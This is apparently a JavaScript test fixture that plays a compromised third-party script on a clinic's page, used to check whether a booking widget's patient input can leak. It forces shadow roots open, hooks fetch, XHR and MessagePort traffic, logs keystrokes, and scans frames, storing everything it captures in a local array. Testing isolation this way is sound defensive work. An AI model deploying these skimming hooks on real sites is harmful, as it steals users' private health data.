// A hostile script on the clinic's page (a compromised tracker, say), loaded before the
// widget's loader: it tries every way a page's own scripts could learn what a patient types
// into the widget, and keeps all it gets in `window.stolen`.
window.stolen = [];
const keep = (what, value) => {
  let text;
  try {
    text = typeof value === "string" ? value : JSON.stringify(value);
  } catch {
    text = String(value);
  }
  window.stolen.push(`${what}: ${text}`);
};
// Every message to this window.
addEventListener("message", (event) => keep("window message", event.data), true);
// Shadow roots forced open.
const attachShadow = Element.prototype.attachShadow;
Element.prototype.attachShadow = function (init) {
  keep("shadow root", this.tagName);
  return attachShadow.call(this, { ...init, mode: "open" });
};
// Every MessagePort's traffic, both ways.
const portPost = MessagePort.prototype.postMessage;
MessagePort.prototype.postMessage = function (data, ...rest) {
  keep("port out", data);
  return portPost.call(this, data, ...rest);
};
const onmessage = Object.getOwnPropertyDescriptor(MessagePort.prototype, "onmessage");
Object.defineProperty(MessagePort.prototype, "onmessage", {
  get() {
    return onmessage.get.call(this);
  },
  set(handler) {
    onmessage.set.call(this, (event) => {
      keep("port in", event.data);
      return handler.call(this, event);
    });
  },
});
// The network.
const realFetch = window.fetch;
window.fetch = (input, init) => {
  keep("fetch", `${input} ${init?.body ?? ""}`);
  return realFetch(input, init);
};
const xhrOpen = XMLHttpRequest.prototype.open;
XMLHttpRequest.prototype.open = function (method, url, ...rest) {
  keep("xhr", url);
  return xhrOpen.call(this, method, url, ...rest);
};
const xhrSend = XMLHttpRequest.prototype.send;
XMLHttpRequest.prototype.send = function (body) {
  keep("xhr body", body ?? "");
  return xhrSend.call(this, body);
};
// Keys and input on the page.
for (const type of ["keydown", "input", "change"]) {
  addEventListener(type, (event) => keep(type, `${event.key ?? ""} ${event.target?.value ?? ""}`), true);
}
// The DOM, the shadow roots and every frame it can reach.
function look() {
  keep("page text", document.documentElement.textContent);
  for (const element of document.querySelectorAll("bizing-booking")) {
    const root = element.shadowRoot;
    if (!root) continue;
    keep("shadow text", root.textContent);
    for (const frame of root.querySelectorAll("iframe")) {
      keep("frame src", frame.src);
      try {
        keep("frame document", frame.contentDocument?.documentElement?.textContent ?? "no document");
      } catch (error) {
        keep("frame document", `blocked: ${error.name}`);
      }
      try {
        keep("frame location", frame.contentWindow.location.href);
      } catch (error) {
        keep("frame location", `blocked: ${error.name}`);
      }
    }
  }
  for (let i = 0; i < window.frames.length; i++) {
    try {
      keep("window.frames", window.frames[i].document.body.textContent);
    } catch (error) {
      keep("window.frames", `blocked: ${error.name}`);
    }
  }
}
new MutationObserver(look).observe(document, { subtree: true, childList: true, characterData: true, attributes: true });
setInterval(look, 200);
